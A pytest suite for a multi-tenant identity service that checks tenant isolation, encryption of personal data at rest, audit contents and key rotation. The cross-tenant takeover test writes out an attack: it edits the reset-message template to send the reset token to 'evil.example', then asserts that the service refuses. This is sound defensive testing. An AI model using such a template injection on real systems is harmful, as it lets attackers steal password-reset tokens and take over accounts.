"""Per-tenant accounts: no tenant can learn, change or reset anything of another's accounts.

The first test is the whole takeover chain of issue 10 item 1, as the review ran it:
tenant B's owner attaches tenant A's user by email, edits the reset template, requests a
reset and sets a password. Each step must leave A's account exactly as it was.
"""

from __future__ import annotations

import secrets
import uuid
from typing import Any

import pyotp
import pytest
from sqlalchemy import select, text

from fiscus.core import clock
from fiscus.core.errors import ServiceUnavailable
from fiscus.core.events import Event
from fiscus.core.keyring import (
    KeyRing,
    KeyRingError,
    column_reseal_batch,
    column_stale_count,
    context_of,
    data_key_activate,
    data_key_create,
    data_keys_retire,
    sealed_columns,
)
from fiscus.identity import sealed
from fiscus.identity.service import (
    EMAIL_CHANGE_EVENT,
    RESET_EVENT,
    email_change_token_unseal,
    reset_token_unseal,
)
from tests.factories import PASSWORD
from tests.identity.test_mfa import _enrol, _step_start

VICTIM_NAME = "Victoria Quillfeather"


async def events_of(app: Any, tenant_id: uuid.UUID, event_type: str) -> list[Event]:
    """The tenant's outbox events of one type, oldest first."""
    async with app.state.db.uow() as uow:
        rows = await uow.session.execute(
            select(Event)
            .where(Event.tenant_id == tenant_id, Event.type == event_type)
            .order_by(Event.id)
        )
        return list(rows.scalars())


async def account_row(app: Any, tenant_id: uuid.UUID, user_id: uuid.UUID) -> dict[str, Any]:
    """The account's whole row, read as the database owner (no RLS)."""
    async with app.state.db.uow() as uow:
        row = (
            await uow.session.execute(
                text("SELECT * FROM users WHERE tenant_id = :t AND id = :u"),
                {"t": tenant_id, "u": user_id},
            )
        ).one()
    return dict(row._mapping)


async def test_takeover_chain_across_tenants_leaves_the_victim_untouched(
    app, client, make_principal
) -> None:
    victim = await make_principal(role="owner", display_name=VICTIM_NAME)
    with clock.frozen_clock(_step_start()):
        await _enrol(client, victim)
    attacker = await make_principal(role="owner")
    before = await account_row(app, victim.tenant_id, victim.user_id)

    # 1. Attach the victim's address: a new, unrelated account; nothing of the victim shows.
    attached = await client.post(
        "/v1/users",
        headers=attacker.headers,
        json={"email": victim.email.upper(), "role": "owner", "password": "attacker pass 1"},
    )
    assert attached.status_code == 201, attached.text
    copy = attached.json()
    assert copy["id"] != str(victim.user_id)
    assert copy["mfa_enabled"] is False
    assert VICTIM_NAME not in attached.text
    fresh = await client.post(
        "/v1/users",
        headers=attacker.headers,
        json={
            "email": f"n-{secrets.token_hex(4)}@example.com",
            "role": "owner",
            "password": "x" * 12,
        },
    )
    assert fresh.status_code == 201 and set(fresh.json()) == set(copy)

    # 2. Route the reset token elsewhere with a template: refused on every channel.
    for channel in ("email", "sms", "in_app"):
        edited = await client.put(
            f"/v1/message-templates/{RESET_EVENT}/{channel}",
            headers=attacker.headers,
            json={"subject": "Reset", "text": "https://evil.example/?t={{ secret.reset_token }}"},
        )
        assert edited.status_code == 403, edited.text
        assert edited.json()["type"].endswith("/template-not-overridable")

    # 3. Ask for a reset of that address in the attacker's tenant, and 4. even holding the
    # token (the strongest attacker reads the mail), set a password.
    asked = await client.post(
        "/v1/auth/password-reset", json={"tenant": attacker.tenant_slug, "email": victim.email}
    )
    assert asked.status_code == 202
    [event] = await events_of(app, attacker.tenant_id, RESET_EVENT)
    assert event.payload["user_id"] == copy["id"]
    token = reset_token_unseal(app.state.keyring, event.payload)
    done = await client.post(
        "/v1/auth/password-reset/confirm", json={"token": token, "new_password": "attacker pass 2"}
    )
    assert done.status_code == 204

    # The victim's account: same row, same password, same session; nothing happened there.
    assert await account_row(app, victim.tenant_id, victim.user_id) == before
    assert await events_of(app, victim.tenant_id, RESET_EVENT) == []
    me = await client.get("/v1/me", headers=victim.headers)
    assert me.status_code == 200
    assert (me.json()["email"], me.json()["display_name"]) == (victim.email, VICTIM_NAME)
    own = {"tenant": victim.tenant_slug, "email": victim.email}
    stolen = await client.post("/v1/auth/login", json={**own, "password": "attacker pass 2"})
    assert stolen.status_code == 401
    login = await client.post("/v1/auth/login", json={**own, "password": PASSWORD})
    assert login.status_code == 200 and login.json()["mfa_required"] is True
    not_theirs = await client.get(f"/v1/users/{victim.user_id}", headers=attacker.headers)
    assert not_theirs.status_code == 404


async def test_an_address_already_in_the_tenant_is_a_conflict(client, make_principal) -> None:
    owner = await make_principal()
    member = await make_principal(role="analyst", tenant_id=owner.tenant_id)
    again = await client.post(
        "/v1/users",
        headers=owner.headers,
        json={"email": f"  {member.email.upper()} ", "role": "analyst", "password": "x" * 12},
    )
    assert again.status_code == 409
    assert again.json()["type"].endswith("/email-in-use")
    listed = await client.get("/v1/users", headers=owner.headers)
    assert sorted(u["email"] for u in listed.json()["data"]) == sorted([owner.email, member.email])


async def test_personal_data_is_sealed_at_rest_and_found_by_blind_index(app, make_principal):
    p = await make_principal(display_name=VICTIM_NAME)
    ring = app.state.keyring
    row = await account_row(app, p.tenant_id, p.user_id)
    assert not {"email", "display_name"} & set(row)
    for column in ("email_sealed", "display_name_sealed", "email_hash"):
        stored = bytes(row[column])
        assert p.email.encode() not in stored and VICTIM_NAME.encode() not in stored
    assert bytes(row["email_hash"]) == ring.lookup_hash(p.email, purpose="email")
    opened = sealed.unseal(
        ring, sealed.USER_EMAIL, tenant_id=p.tenant_id, row_id=p.user_id, sealed=row["email_sealed"]
    )
    assert opened == p.email
    # Bound to its row and column: the same bytes do not open anywhere else.
    with pytest.raises(KeyRingError):
        ring.open(
            bytes(row["email_sealed"]),
            context=context_of(sealed.USER_EMAIL, uuid.uuid4(), p.user_id),
        )
    with pytest.raises(KeyRingError):
        ring.open(
            bytes(row["email_sealed"]),
            context=context_of(sealed.USER_NAME, p.tenant_id, p.user_id),
        )


async def test_audit_and_events_hold_ids_not_personal_data(app, client, make_principal) -> None:
    owner = await make_principal()
    email, name = f"zora-{secrets.token_hex(3)}@example.com", "Zora Personalia"
    added = await client.post(
        "/v1/users",
        headers=owner.headers,
        json={"email": email, "display_name": name, "role": "analyst", "password": "x" * 12},
    )
    assert added.status_code == 201
    app.state.identity.config.backoff_base_s = 0
    for _ in range(app.state.identity.config.lockout_threshold):
        wrong = {"tenant": owner.tenant_slug, "email": email, "password": "wrong password"}
        assert (await client.post("/v1/auth/login", json=wrong)).status_code == 401
    [locked] = await events_of(app, owner.tenant_id, "user.locked_out")
    assert locked.payload == {
        "user_id": added.json()["id"],
        "locked_for_s": app.state.identity.config.lockout_s,
    }
    async with app.state.db.uow() as uow:
        trail = (await uow.session.execute(text("SELECT changes::text FROM audit_events"))).all()
    assert trail
    for (changes,) in trail:
        assert email not in changes and name not in changes and "Zora" not in changes


async def test_identity_columns_survive_a_data_key_rotation(app, client, make_principal) -> None:
    # The contexts registered for `fiscus keys rotate` must be exactly those the writes use.
    db, ring = app.state.db, app.state.keyring
    p = await make_principal(display_name=VICTIM_NAME)
    with clock.frozen_clock(_step_start()):
        secret, _ = await _enrol(client, p)
    address = f"rotated-{secrets.token_hex(3)}@example.com"
    asked = await client.post("/v1/me/email", json={"email": address}, headers=p.headers)
    assert asked.status_code == 202
    [event] = await events_of(app, p.tenant_id, EMAIL_CHANGE_EVENT)
    token = email_change_token_unseal(ring, event.payload)
    old = ring.current_kid
    await data_key_activate(db, ring, await data_key_create(db, ring))
    columns = [c for c in sealed_columns() if f"{c.table}.{c.column}" in sealed.SEALED_COLUMNS]
    assert len(columns) == len(sealed.SEALED_COLUMNS)
    for column in columns:
        while await column_reseal_batch(db, ring, column):
            pass
        assert await column_stale_count(db, ring, column) == 0
    assert await data_keys_retire(db, ring) == [old]
    me = (await client.get("/v1/me", headers=p.headers)).json()
    assert (me["email"], me["display_name"]) == (p.email, VICTIM_NAME)
    login = await client.post(
        "/v1/auth/login", json={"tenant": p.tenant_slug, "email": p.email, "password": PASSWORD}
    )
    code = pyotp.TOTP(secret).now()
    verified = await client.post(
        "/v1/auth/mfa/verify", json={"mfa_token": login.json()["mfa_token"], "code": code}
    )
    assert verified.status_code == 200, verified.text
    confirmed = await client.post("/v1/me/email/confirm", json={"token": token}, headers=p.headers)
    assert confirmed.status_code == 204


def test_an_unloaded_key_ring_is_an_outage_not_a_crash() -> None:
    # Started while the database was down: until the ring loads, a 503 with Retry-After.
    ring = KeyRing(["s" * 40])
    for use in (
        lambda: sealed.email_hash(ring, "a@example.com"),
        lambda: sealed.backup_code_hash(ring, "ABCD"),
        lambda: sealed.seal(
            ring, sealed.USER_NAME, tenant_id=uuid.uuid4(), row_id=uuid.uuid4(), value="x"
        ),
    ):
        with pytest.raises(ServiceUnavailable) as refused:
            use()
        assert refused.value.headers["Retry-After"] == "1"
